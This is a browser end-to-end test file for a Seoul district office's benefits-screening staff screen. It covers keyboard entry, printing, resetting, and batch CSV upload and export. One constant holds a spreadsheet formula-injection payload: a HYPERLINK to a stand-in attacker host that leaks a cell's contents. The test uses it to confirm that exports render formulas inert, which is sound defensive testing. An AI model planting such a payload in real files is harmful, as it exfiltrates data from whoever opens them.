/**
 * Staff mode in Chromium (desktop size, as at a 동주민센터 desk): an applicant entered from the
 * keyboard alone through the documented shortcuts, the printed handout, "next applicant" wiping
 * everything, and batch CSV screening in a worker: template and legend, round trip, a bad row reported,
 * filters, a household's detail, both downloads (formula payloads inert). Nothing is written to any
 * storage, nothing breaks the CSP, axe finds nothing.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { plusDays, todayInSeoul } from '../../src/lib/engine/dates';
import { axeViolations, downloaded, usePages, type OpenedPage } from './browser';
import { NOTHING_STORED, recordWrites, storedAnything } from './storage';

const baseUrl = inject('baseUrl');
const today = todayInSeoul();
const rule = (id: string) => JSON.parse(readFileSync(`rules/${id}.json`, 'utf8')) as { names: { ko: string } };

type Recorded = Window & { printed: number };

const openTracked = usePages();

async function open(hash: string): Promise<OpenedPage> {
  const o = await openTracked(`${baseUrl}${hash}`, { width: 1366, height: 900, initScript: recordWrites });
  await o.page.getByRole('heading', { level: 1, name: '동주민센터 상담 화면' }).waitFor();
  return o;
}

const focusedName = (page: Page) =>
  page.evaluate(() => {
    const el = document.activeElement as HTMLInputElement | null;
    return el?.labels?.[0]?.textContent?.trim() ?? el?.getAttribute('aria-label') ?? '';
  });

describe('staff consultation', () => {
  it('takes an applicant from the keyboard alone, shows results live, prints, and "next applicant" wipes everything', async () => {
    const { page, errors } = await open('#/staff');
    const form = page.getByRole('region', { name: '신청인 정보' });
    const results = page.getByRole('region', { name: '받을 수 있는 혜택' });
    expect(await axeViolations(page)).toEqual([]);

    await page.keyboard.press('Alt+G');
    expect(await focusedName(page)).toBe('서울특별시');
    await page.keyboard.press('Space');
    await page.keyboard.press('Alt+G');
    await page.keyboard.press('Alt+G');
    expect(await focusedName(page)).toMatch(/^생년월일/);
    await page.keyboard.type('1993-05-02');
    await page.keyboard.press('Tab');
    expect(await focusedName(page)).toBe('여성');
    await page.keyboard.press('Space');
    await page.keyboard.press('Tab');
    expect(await focusedName(page)).toBe('예');
    await page.keyboard.press('Space');
    await page.keyboard.press('Tab');
    expect(await focusedName(page)).toMatch(/^출산 예정일/);
    await page.keyboard.type(plusDays(today, 90));
    // Shortcut letters typed without Alt are just text.
    await form.getByRole('textbox', { name: '가구원 수' }).focus();
    await page.keyboard.type('gcpn');
    expect(await form.getByRole('textbox', { name: '가구원 수' }).inputValue()).toBe('gcpn');
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Backspace');

    await page.keyboard.press('Alt+C');
    expect(await focusedName(page)).toMatch(/^생년월일/);
    await page.keyboard.type(plusDays(today, -400));
    await form.getByRole('group', { name: '아이 1', exact: true }).waitFor();
    await results.getByRole('article', { name: rule('pregnancy-transport').names.ko }).waitFor();
    await results.getByRole('article', { name: rule('parent-allowance').names.ko }).waitFor();
    expect(await axeViolations(page)).toEqual([]);

    await page.evaluate(() => {
      (window as unknown as Recorded).printed = 0;
      window.print = () => void (window as unknown as Recorded).printed++;
    });
    await page.keyboard.press('Alt+P');
    expect(await page.evaluate(() => (window as unknown as Recorded).printed)).toBe(1);
    await page.getByRole('combobox', { name: '안내문에 함께 쓸 언어' }).selectOption('en');
    await page.emulateMedia({ media: 'print' });
    const handout = page.locator('.printout');
    // The second language's messages load on choosing it.
    await handout.filter({ hasText: 'Where to apply' }).waitFor();
    expect(await handout.isVisible()).toBe(true);
    expect(await form.isVisible()).toBe(false);
    const printed = await handout.innerText();
    for (const text of [
      '서울 가족 혜택 안내',
      rule('pregnancy-transport').names.ko,
      '신청하는 곳',
      'Seoul family benefits',
      'Where to apply',
    ])
      expect(printed).toContain(text);
    await page.emulateMedia({ media: 'screen' });
    expect(await handout.isVisible()).toBe(false);
    expect(await form.isVisible()).toBe(true);

    await page.keyboard.press('Alt+N');
    expect(await focusedName(page)).toBe('서울특별시');
    expect(await form.getByRole('radio', { name: '서울특별시' }).isChecked()).toBe(false);
    expect(await form.getByRole('textbox', { name: '생년월일 (어른 1)' }).inputValue()).toBe('');
    expect(await form.getByRole('group', { name: '아이 1', exact: true }).count()).toBe(0);
    expect(await results.getByRole('article').count()).toBe(0);
    expect(await page.getByRole('combobox', { name: '안내문에 함께 쓸 언어' }).inputValue()).toBe('');

    expect(await storedAnything(page)).toEqual(NOTHING_STORED);
    expect(errors).toEqual([]);
  });
});

const HEADER = '가구ID,거주지,월소득인정액,성인1 생년월일,성인1 성별,성인1 임신중,자녀1 생년월일,자녀1 서울출생신고';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"click")';

describe('batch CSV screening', () => {
  it('round-trips the template, reports a bad row, filters, shows a detail, and downloads safe CSVs', async () => {
    const { page, errors } = await open('#/staff/batch');
    await page.getByRole('heading', { level: 2, name: 'CSV로 여러 가구 한 번에 확인' }).waitFor();

    const [template] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: '서식 내려받기 (CSV)' }).click(),
    ]);
    expect(template.suggestedFilename()).toBe('가구_일괄확인_서식.csv');
    const templateBytes = await downloaded(template);
    expect([...templateBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(templateBytes.toString('utf8')).toContain('가구ID,기준일,거주지');
    // The examples are dated from today: the first one's 기준일.
    expect(templateBytes.toString('utf8')).toContain(`예시-1,${today},`);

    const [legend] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: '입력 안내 내려받기 (CSV)' }).click(),
    ]);
    expect(legend.suggestedFilename()).toBe('가구_일괄확인_입력안내.csv');
    expect((await downloaded(legend)).toString('utf8')).toMatch(/^\uFEFF열 이름,영문 키,적는 법/);

    const file = page.getByLabel('CSV 파일 선택', { exact: true });
    await file.setInputFiles({ name: template.suggestedFilename(), mimeType: 'text/csv', buffer: templateBytes });
    await page.getByText(/^2가구를 확인했어요 \(\d+\.\d초\)\. 입력 오류 0가구\.$/).waitFor();
    expect(await page.getByRole('region', { name: '입력 오류' }).count()).toBe(0);

    const sheet = [
      HEADER,
      `H1,서울,4200000,1993-05-02,여,아니오,${plusDays(today, -20)},`,
      `H2,서울,x,1990-01-01,여,아니오,,`,
      `H3,기타,3000000,1988-01-01,남,아니오,${plusDays(today, -30)},예`,
      `"${FORMULA.replace(/"/g, '""')}",경기도,420만,1990-01-01,여,아니오,,`,
    ].join('\r\n');
    await file.setInputFiles({ name: 'households.csv', mimeType: 'text/csv', buffer: Buffer.from(`\uFEFF${sheet}`) });
    await page.getByText(/^4가구를 확인했어요 .*입력 오류 1가구\.$/).waitFor();
    const problems = page.getByRole('region', { name: /입력 오류/ });
    expect(await problems.innerText()).toContain('3행 · 월소득인정액: 숫자로 적어 주세요: 4200000, 4,200,000, 420만 또는 420만원 ("x")');

    const table = page.getByRole('table');
    expect(await table.locator('caption').innerText()).toMatch(/^결과 \d+줄/);
    await page.getByRole('combobox', { name: '혜택' }).selectOption({ label: rule('postpartum-care').names.ko });
    await page.getByRole('combobox', { name: '상태' }).selectOption('unknown');
    await table.locator('caption', { hasText: '결과 1줄' }).waitFor();
    const row = await table.locator('tbody tr').first().locator('td').allInnerTexts();
    expect(row).toEqual([
      '2',
      'H1',
      rule('postpartum-care').names.ko,
      '확인이 필요해요',
      expect.any(String),
      expect.any(String),
      '자녀1 서울출생신고',
    ]);
    expect(await axeViolations(page)).toEqual([]);

    // A household's detail: re-evaluated on demand, shown with the resident's result cards.
    await table.getByRole('button', { name: 'H1 가구 자세히 보기' }).click();
    const detail = page.getByRole('region', { name: 'H1 가구 (2행) 자세히' });
    await detail.waitFor();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('batch-detail-title');
    expect(await detail.getByRole('heading', { level: 3, name: /확인이 필요해요/ }).count()).toBe(1);
    expect(await axeViolations(page)).toEqual([]);
    await detail.getByRole('button', { name: '자세히 닫기' }).click();
    expect(await detail.count()).toBe(0);

    const [results] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: '결과 CSV 내려받기' }).click()]);
    const lines = Papa.parse<string[]>((await downloaded(results)).toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(lines[0]).toEqual([
      '행',
      '가구ID',
      '혜택ID',
      '혜택',
      '상태',
      '금액(원)',
      '단위',
      '신청기한',
      '시작일',
      '확인 필요 항목',
      '사유',
    ]);
    expect(lines.slice(1).map((l) => [l[1], l[2], l[4], l[9]])).toEqual([
      ['H1', 'postpartum-care', '확인이 필요해요', '자녀1 서울출생신고'],
    ]);

    await page.getByRole('combobox', { name: '혜택' }).selectOption({ label: '전체' });
    await page.getByRole('combobox', { name: '상태' }).selectOption('invalid');
    await table.locator('caption', { hasText: '결과 1줄' }).waitFor();
    expect(await table.locator('tbody tr').first().innerText()).toContain('월소득인정액: 숫자로 적어 주세요');

    // Every line, and the summary: the formula in a household ID comes out as text.
    await page.getByRole('combobox', { name: '상태' }).selectOption({ label: '전체' });
    await table.locator('caption', { hasText: /결과 \d{2,}줄/ }).waitFor();
    const [all] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: '결과 CSV 내려받기' }).click()]);
    const allLines = Papa.parse<string[]>((await downloaded(all)).toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(new Set(allLines.slice(1).map((l) => l[1]))).toEqual(new Set(['H1', 'H2', 'H3', `'${FORMULA}`]));
    const [perHousehold] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: '가구별 요약 CSV 내려받기' }).click(),
    ]);
    expect(perHousehold.suggestedFilename()).toBe('일괄확인_가구별요약.csv');
    const summary = Papa.parse<string[]>((await downloaded(perHousehold)).toString('utf8').replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    }).data;
    expect(summary.map((l) => l[1])).toEqual(['가구ID', 'H1', 'H2', 'H3', `'${FORMULA}`]);

    expect(await storedAnything(page)).toEqual(NOTHING_STORED);
    expect(errors).toEqual([]);
  });
});
